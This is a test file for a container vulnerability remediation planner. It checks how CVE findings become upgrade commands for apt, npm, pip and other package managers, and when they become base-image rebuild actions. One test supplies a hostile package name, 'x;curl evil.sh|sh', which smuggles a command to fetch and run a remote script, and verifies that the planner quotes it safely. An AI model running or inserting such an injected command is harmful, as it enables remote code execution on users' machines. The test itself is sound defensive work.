import { describe, expect, it } from "vitest";
import { RemediationActionSchema } from "../../shared/model/remediation-action.js";
import { planRemediation } from "../../shared/policy/remediation/plan.js";
import { APP_LAYER, BASE_LAYER, match } from "./match-builder.js";

const layers = [BASE_LAYER, APP_LAYER];

describe("remediation", () => {
  it("groups many Debian findings into one apt line naming each binary package", () => {
    const findings = [
      match({ id: "CVE-2024-0001", name: "libssl3", fixedVersion: "3.0.13-1~deb12u1", severity: "critical" }),
      match({ id: "CVE-2024-0002", name: "openssl", fixedVersion: "3.0.13-1~deb12u1" }),
      match({
        id: "CVE-2024-0003",
        name: "curl",
        version: "7.88.1-10+deb12u5",
        fixedVersion: "7.88.1-10+deb12u6",
      }),
      match({
        id: "CVE-2024-0004",
        name: "libcurl4",
        version: "7.88.1-10+deb12u5",
        fixedVersion: "7.88.1-10+deb12u6",
      }),
      match({ id: "CVE-2024-0005", name: "zlib1g", fixedVersion: undefined }),
    ];
    const { actions, byFinding } = planRemediation(findings, { layers });
    expect(actions).toHaveLength(1);
    const [apt] = actions;
    expect(apt).toMatchObject({
      kind: "package-upgrade",
      manager: "apt",
      command: "apt-get update && apt-get install -y --only-upgrade curl libcurl4 libssl3 openssl",
      findingIds: ["CVE-2024-0001", "CVE-2024-0002", "CVE-2024-0003", "CVE-2024-0004"],
    });
    expect(apt?.title).toBe(
      "Upgrade 4 Debian/Ubuntu packages: curl ≥ 7.88.1-10+deb12u6, libcurl4 ≥ 7.88.1-10+deb12u6, libssl3 ≥ 3.0.13-1~deb12u1, openssl ≥ 3.0.13-1~deb12u1",
    );
    expect(byFinding.get(findings[0]!)).toBe(
      "apt-get update && apt-get install -y --only-upgrade libssl3  # ≥ 3.0.13-1~deb12u1",
    );
    expect(byFinding.has(findings[4]!)).toBe(false);
    expect(RemediationActionSchema.parse(apt)).toEqual(apt);
  });

  it("turns every base-layer finding into one rebuild action", () => {
    const findings = [
      match({ id: "CVE-2024-0001", name: "libssl3", layer: BASE_LAYER }),
      match({ id: "CVE-2024-0002", name: "libc6", layer: BASE_LAYER, severity: "critical" }),
      match({
        id: "CVE-2024-0003",
        name: "express",
        ecosystem: "npm",
        fixedVersion: "4.19.2",
        layer: BASE_LAYER,
      }),
      match({ id: "CVE-2024-0004", name: "curl", layer: APP_LAYER }),
    ];
    const { actions, byFinding } = planRemediation(findings, { layers, baseImage: "debian:12" });
    expect(actions.map((a) => a.kind)).toEqual(["base-image-rebuild", "package-upgrade"]);
    expect(actions[0]).toMatchObject({
      title: "Rebuild on a newer debian:12 base image (3 of its packages have fixes)",
      layers: [BASE_LAYER],
      findingIds: ["CVE-2024-0002", "CVE-2024-0001", "CVE-2024-0003"],
    });
    expect(byFinding.get(findings[2]!)).toBe("rebuild on a newer debian:12 base image");
    expect(actions[1]?.command).toBe("apt-get update && apt-get install -y --only-upgrade curl");
  });

  it.each([
    ["the first layer by default", undefined, "base-image-rebuild"],
    ["a count of base layers from the image history", 2, "base-image-rebuild"],
    ["no base layers", 0, "package-upgrade"],
    ["explicit base-layer digests", new Set([BASE_LAYER]), "package-upgrade"],
    ["explicit base-layer digests including the app layer", new Set([APP_LAYER]), "base-image-rebuild"],
  ])("takes base layers as %s", (_title, baseLayers, kind) => {
    const f = match({
      layer: baseLayers === 2 ? APP_LAYER : baseLayers instanceof Set ? APP_LAYER : BASE_LAYER,
    });
    const { actions } = planRemediation([f], { layers, ...(baseLayers === undefined ? {} : { baseLayers }) });
    expect(actions[0]?.kind).toBe(kind);
  });

  it.each([
    ["Alpine:v3.20", "busybox", "1.36.1-r29", "apk upgrade --no-cache busybox"],
    ["Red Hat:9", "glibc", "2.34-100.el9_4.2", "dnf upgrade -y glibc"],
    ["npm", "lodash", "4.17.21", "npm install lodash@4.17.21"],
    ["PyPI", "jinja2", "3.1.4", "pip install 'jinja2>=3.1.4'"],
    ["NuGet", "System.Text.Json", "8.0.4", "dotnet add package System.Text.Json --version 8.0.4"],
    ["Go", "golang.org/x/net", "0.23.0", "go get golang.org/x/net@v0.23.0 && go mod tidy"],
    ["crates.io", "h2", "0.4.4", "cargo update -p h2 --precise 0.4.4"],
  ])("gives %s packages their own manager's command", (ecosystem, name, fixedVersion, command) => {
    const { actions } = planRemediation([match({ ecosystem, name, fixedVersion })], { layers });
    expect(actions[0]?.command).toBe(command);
  });

  it("targets the highest fixed version when several findings hit one package", () => {
    const findings = [
      match({ id: "CVE-1", ecosystem: "npm", name: "lodash", version: "4.17.4", fixedVersion: "4.17.11" }),
      match({ id: "CVE-2", ecosystem: "npm", name: "lodash", version: "4.17.4", fixedVersion: "4.17.21" }),
      match({ id: "CVE-3", ecosystem: "npm", name: "lodash", version: "4.17.4", fixedVersion: "4.17.5" }),
    ];
    const { actions, byFinding } = planRemediation(findings, { layers });
    expect(actions[0]?.command).toBe("npm install lodash@4.17.21");
    expect(new Set(byFinding.values())).toEqual(new Set(["npm install lodash@4.17.21"]));
  });

  it("picks the highest fixed version by the ecosystem's scheme (dpkg: a tilde sorts before anything)", () => {
    const findings = [
      match({ id: "CVE-1", name: "bash", fixedVersion: "5.2.15-2~bpo12+1" }),
      match({ id: "CVE-2", name: "bash", fixedVersion: "5.2.15-2" }),
    ];
    const { actions } = planRemediation(findings, { layers });
    expect(actions[0]?.kind === "package-upgrade" && actions[0].packages[0]?.fixedVersion).toBe("5.2.15-2");
  });

  it("uses a version order the caller supplies", () => {
    const findings = [
      match({ id: "CVE-1", name: "bash", fixedVersion: "5.2.15-2+deb12u1" }),
      match({ id: "CVE-2", name: "bash", fixedVersion: "5.2.15-2~bpo12" }),
    ];
    const reversed = (_e: string, a: string, b: string) => (a < b ? 1 : a > b ? -1 : 0);
    const { actions } = planRemediation(findings, { layers, compareVersions: reversed });
    expect(actions[0]?.kind === "package-upgrade" && actions[0].packages[0]?.fixedVersion).toBe(
      "5.2.15-2+deb12u1",
    );
  });

  it("makes one action per package where the tool takes one package at a time", () => {
    const findings = [
      match({ id: "CVE-1", ecosystem: "NuGet", name: "Newtonsoft.Json", fixedVersion: "13.0.1" }),
      match({ id: "CVE-2", ecosystem: "NuGet", name: "System.Text.Json", fixedVersion: "8.0.4" }),
    ];
    expect(planRemediation(findings, { layers }).actions.map((a) => a.key)).toEqual([
      "dotnet:Newtonsoft.Json",
      "dotnet:System.Text.Json",
    ]);
  });

  it("still says what to upgrade in an ecosystem without a registered command", () => {
    const { actions } = planRemediation(
      [match({ ecosystem: "Hackage", name: "aeson", fixedVersion: "2.2.1" })],
      {
        layers,
      },
    );
    expect(actions[0]).toMatchObject({ manager: "manual", title: "Upgrade aeson ≥ 2.2.1" });
    expect(actions[0]?.command).toBeUndefined();
  });

  it("quotes a hostile package name so a pasted command runs nothing else", () => {
    const { actions } = planRemediation([match({ name: "x;curl evil.sh|sh" })], { layers });
    expect(actions[0]?.command).toBe(
      "apt-get update && apt-get install -y --only-upgrade 'x;curl evil.sh|sh'",
    );
  });

  it("groups Windows OS findings into one base-image OS-build action with their KBs", () => {
    const windows = (id: string, kb: string) =>
      match({
        id,
        aliases: [kb],
        ecosystem: "Windows",
        name: "Windows Server 2025 Server Core",
        version: "10.0.26100.3775",
        fixedVersion: "10.0.26100.4061",
        layer: BASE_LAYER,
      });
    const { actions } = planRemediation(
      [windows("CVE-2025-1", "KB5058411"), windows("CVE-2025-2", "KB5058411")],
      {
        layers,
        baseImage: "mcr.microsoft.com/windows/servercore:ltsc2025",
      },
    );
    expect(actions).toHaveLength(1);
    expect(actions[0]).toMatchObject({
      kind: "os-build-update",
      minBuild: "10.0.26100.4061",
      kbs: ["KB5058411"],
      title:
        "Rebuild on a base image with OS build ≥ 10.0.26100.4061 (KB5058411), e.g. a newer mcr.microsoft.com/windows/servercore:ltsc2025",
    });
  });

  it("orders actions by the most urgent tier they resolve", () => {
    const findings = [
      {
        ...match({ id: "CVE-1", ecosystem: "npm", name: "a", fixedVersion: "2.0.0" }),
        tier: "report" as const,
      },
      {
        ...match({ id: "CVE-2", ecosystem: "PyPI", name: "b", fixedVersion: "2.0.0" }),
        tier: "block" as const,
      },
    ];
    expect(planRemediation(findings, { layers }).actions.map((a) => [a.key, a.tier])).toEqual([
      ["pip", "block"],
      ["npm", "report"],
    ]);
  });
});
